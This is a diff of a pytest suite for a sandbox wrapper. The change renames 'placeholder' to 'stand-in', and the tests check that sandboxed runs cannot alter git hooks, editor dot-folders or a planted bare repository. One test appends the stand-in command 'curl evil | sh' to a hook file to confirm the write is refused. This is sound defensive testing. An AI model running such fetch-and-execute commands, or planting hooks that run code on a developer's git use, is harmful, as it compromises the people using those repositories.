@@ -2,7 +2,7 @@
 
 Each test makes a real repository (git init, a commit), runs a sandbox that writes its
 folder, tries from inside what an attacker would, and checks that the folder is, byte for
-byte, what it was (no placeholder left, no dot file changed) unless the test says what
+byte, what it was (no stand-in left, no dot file changed) unless the test says what
 the program was allowed to leave.
 """
 
@@ -18,7 +18,7 @@ from pathlib import Path
 
 import pytest
 
-from lnk_wrap import placeholders
+from lnk_wrap import standins
 from tests.conftest import (
     LNK_SANDBOX,
     SANDBOX_TIMEOUT_SECONDS,
@@ -67,13 +67,13 @@ def listing(folder: Path) -> dict[str, str]:
     return found
 
 
-def assert_no_placeholder_left(folder: Path, *names: str) -> None:
+def assert_no_standin_left(folder: Path, *names: str) -> None:
     for name in names or (".git", ".vscode", ".idea", ".husky"):
         assert not (folder / name).exists(), f"left behind: {name}"
 
 
 def index_of(sandbox_env: dict[str, str]) -> list[tuple[str, str, list[str]]]:
-    return list(placeholders.index_entries(sandbox_env["LNK_HOME"]))
+    return list(standins.index_entries(sandbox_env["LNK_HOME"]))
 
 
 @pytest.fixture
@@ -151,7 +151,7 @@ def test_F4_ordinary_files_and_build_files_stay_writable(
         "other dot files": f"echo x > {p}/.editorconfig && mkdir {p}/.cache",
     })
     assert opened(found) == sorted(found)
-    assert_no_placeholder_left(project, ".vscode", ".idea", ".husky")
+    assert_no_standin_left(project, ".vscode", ".idea", ".husky")
 
 
 @pytest.mark.parametrize("name", [".git", ".vscode", ".idea", ".husky"])
@@ -204,7 +204,7 @@ def test_F4_only_the_top_is_held(
         "nested vscode": f"mkdir {n}/.vscode",
     })
     assert opened(found) == sorted(found)
-    assert_no_placeholder_left(project, ".vscode", ".idea", ".husky")
+    assert_no_standin_left(project, ".vscode", ".idea", ".husky")
 
 
 # -- what git's settings name ---------------------------------------------------------------
@@ -235,7 +235,7 @@ def test_F4_nested_hooks_folder_held_its_parents_pinned_but_writable(
     assert opened(found) == ["write beside the hooks"]
 
 
-def test_F4_missing_hooks_folder_named_by_git_gets_a_placeholder(
+def test_F4_missing_hooks_folder_named_by_git_gets_a_standin(
     project: Path, write_spec: WriteSpec, run_sandbox: RunSandbox
 ) -> None:
     git(project, "config", "core.hooksPath", "tools/githooks")
@@ -288,7 +288,7 @@ def test_F4_a_hook_that_links_into_the_work_tree_has_its_target_held(
     assert listing(project) == before
 
 
-def test_F4_hook_manager_settings_get_placeholders_once_a_hook_runs_the_manager(
+def test_F4_hook_manager_settings_get_standins_once_a_hook_runs_the_manager(
     project: Path, write_spec: WriteSpec, run_sandbox: RunSandbox
 ) -> None:
     hook = project / ".git" / "hooks" / "pre-commit"
@@ -322,7 +322,7 @@ def test_F4_without_a_hook_manager_its_missing_settings_are_not_placeheld(
     })
     # No hook git runs names lefthook, and .git is held: nothing can run it from here.
     assert opened(found) == ["make lefthook.yml"]
-    assert_no_placeholder_left(project, ".vscode", ".idea", ".husky")
+    assert_no_standin_left(project, ".vscode", ".idea", ".husky")
 
 
 def test_F4_worktree_gitdir_and_commondir_are_followed(
@@ -466,10 +466,10 @@ def test_F4_an_agents_own_folder_has_its_dot_files_open_its_files_folder_does_no
         "make .vscode in its files folder": f"mkdir {Q(str(files))}/.vscode",
     })
     assert opened(found) == ["commit in its own folder"]
-    assert_no_placeholder_left(files, ".vscode", ".idea", ".husky")
+    assert_no_standin_left(files, ".vscode", ".idea", ".husky")
 
 
-# -- F5: placeholders and the runs holding them ----------------------------------------------
+# -- F5: stand-ins and the runs holding them ----------------------------------------------
 
 
 _STARTED: list[subprocess.Popen[str]] = []
@@ -505,7 +505,7 @@ def _held_open(spec: Path, env: dict[str, str], gate: Path) -> subprocess.Popen[
 
 def _running(run: subprocess.Popen[str]) -> None:
     """Wait until a `_held_open` run's command is running: before that, the launcher
-    is still mounting the placeholders, and a folder changed under it then stops the
+    is still mounting the stand-ins, and a folder changed under it then stops the
     start (a clear refusal, exit 125), not what the tests that tamper look at."""
     assert run.stdout is not None
     line = run.stdout.readline()
@@ -522,7 +522,7 @@ def test_F5_two_runs_on_one_folder_ending_in_either_order(
     spec = _gated_spec(write_spec, folder, tmp_path / "gates")
     gate_one, gate_two = tmp_path / "gates" / "one", tmp_path / "gates" / "two"
     run_one = _held_open(spec, sandbox_env, gate_one)
-    wait_until(lambda: (folder / ".vscode").is_dir(), "the first run's placeholders")
+    wait_until(lambda: (folder / ".vscode").is_dir(), "the first run's stand-ins")
     run_two = _start(spec, sandbox_env, "/bin/sh", "-c",
                      f"while [ ! -e {Q(str(gate_two))} ]; do sleep 0.02; done; "
                      f"mkdir {Q(str(folder))}/.vscode/x")
@@ -532,12 +532,12 @@ def test_F5_two_runs_on_one_folder_ending_in_either_order(
     first = run_one if first_to_end == "long" else run_two
     second = run_two if first == run_one else run_one
     first.wait(SANDBOX_TIMEOUT_SECONDS)
-    # The other run still holds every placeholder: none was removed from under it.
+    # The other run still holds every stand-in: none was removed from under it.
     assert (folder / ".vscode").is_dir() and (folder / ".git").is_dir()
     assert all(len(runs) == 1 for _, _, runs in index_of(sandbox_env))
     (gate_two if first_to_end == "long" else gate_one).touch()
     second.wait(SANDBOX_TIMEOUT_SECONDS)
-    assert run_two.returncode != 0  # mkdir inside the placeholder was refused
+    assert run_two.returncode != 0  # mkdir inside the stand-in was refused
     assert listing(folder) == before
     assert index_of(sandbox_env) == []
 
@@ -546,7 +546,7 @@ def test_F5_two_runs_on_one_folder_ending_in_either_order(
     (".idea", "fill", "was changed during the run"),
     (".husky", "replace", "is no longer the placeholder made for the run"),
 ])
-def test_F5_a_placeholder_changed_outside_is_left_as_it_is(
+def test_F5_a_standin_changed_outside_is_left_as_it_is(
     tmp_path: Path, write_spec: WriteSpec, sandbox_env: dict[str, str], name: str,
     tamper: str, said: str,
 ) -> None:
@@ -583,12 +583,12 @@ def test_F5_a_run_killed_outright_is_cleaned_up_by_the_next_run(
         [LNK_SANDBOX.replace("lnk-sandbox", "lnk-sandbox-launch"), "--settings",
          sandbox_env["LNK_HOME"], "--write", str(folder), "--", "/bin/sleep", "60"],
         env=sandbox_env)
-    wait_until(lambda: (folder / ".git").is_dir(), "the placeholders")
+    wait_until(lambda: (folder / ".git").is_dir(), "the stand-ins")
     launcher.send_signal(signal.SIGKILL)
     launcher.wait(SANDBOX_TIMEOUT_SECONDS)
     assert (folder / ".git").is_dir()  # left by the killed run …
     assert index_of(sandbox_env) != []
-    # … the next run on any folder sweeps it: its placeholders go once it ends.
+    # … the next run on any folder sweeps it: its stand-ins go once it ends.
     other = tmp_path / "other"
     other.mkdir()
     (other / ".git").mkdir()
@@ -603,7 +603,7 @@ def test_F5_a_run_killed_outright_is_cleaned_up_by_the_next_run(
     del spec
 
 
-def test_F5_nothing_inside_can_reach_the_placeholder_list(
+def test_F5_nothing_inside_can_reach_the_standins_index(
     tmp_path: Path, write_spec: WriteSpec, run_sandbox: RunSandbox, sandbox_env: dict[str, str]
 ) -> None:
     folder = tmp_path / "plain"
@@ -616,7 +616,7 @@ def test_F5_nothing_inside_can_reach_the_placeholder_list(
     assert opened(found) == []
 
 
-def test_F5_a_second_run_joins_a_nested_placeholder_instead_of_making_inside_it(
+def test_F5_a_second_run_joins_a_nested_standin_instead_of_making_inside_it(
     project: Path, write_spec: WriteSpec, sandbox_env: dict[str, str], tmp_path: Path
 ) -> None:
     git(project, "config", "core.hooksPath", "tools/githooks")
@@ -624,7 +624,7 @@ def test_F5_a_second_run_joins_a_nested_placeholder_instead_of_making_inside_it(
     spec = _gated_spec(write_spec, project, tmp_path / "gates")
     gate_one, gate_two = tmp_path / "gates" / "one", tmp_path / "gates" / "two"
     run_one = _held_open(spec, sandbox_env, gate_one)
-    wait_until(lambda: (project / "tools").is_dir(), "the first run's placeholder")
+    wait_until(lambda: (project / "tools").is_dir(), "the first run's stand-in")
     run_two = _held_open(spec, sandbox_env, gate_two)
     wait_until(lambda: any(len(runs) == 2 for _, _, runs in index_of(sandbox_env)),
               "the second run to join")
@@ -674,11 +674,11 @@ def test_F8_the_enclosing_repositorys_hooks_are_held_whatever_other_runs_hold(
     spec = _gated_spec(write_spec, written, tmp_path / "gates")
     gate = tmp_path / "gates" / "one"
     if runs == "beside another run":
-        # The first run's empty .git placeholder at the written folder's top is what
+        # The first run's empty .git stand-in at the written folder's top is what
         # the second run sees there: not a repository (git passes over it), so the
         # enclosing one is still the one held.
         first = _held_open(spec, sandbox_env, gate)
-        wait_until(lambda: (written / ".git").is_dir(), "the first run's placeholder")
+        wait_until(lambda: (written / ".git").is_dir(), "the first run's stand-in")
     attempt = _start(spec, sandbox_env, "/bin/sh", "-c",
                      f"echo 'curl evil | sh' >> {Q(str(target))}")
     _, stderr = attempt.communicate(timeout=SANDBOX_TIMEOUT_SECONDS)
@@ -711,7 +711,7 @@ def test_F8_a_written_repository_inside_another_still_has_the_outer_ones_hooks_h
 def test_F4_a_written_folder_cannot_be_made_a_bare_repository_at_its_top(
     tmp_path: Path, write_spec: WriteSpec, run_sandbox: RunSandbox
 ) -> None:
-    # git, finding no valid .git in a folder (none, or a placeholder it passes over),
+    # git, finding no valid .git in a folder (none, or a stand-in it passes over),
     # takes the folder itself for a bare repository once it holds HEAD, objects/ and
     # refs/, and runs what its config names (core.pager on the person's `git log`).
     folder = tmp_path / "plain"
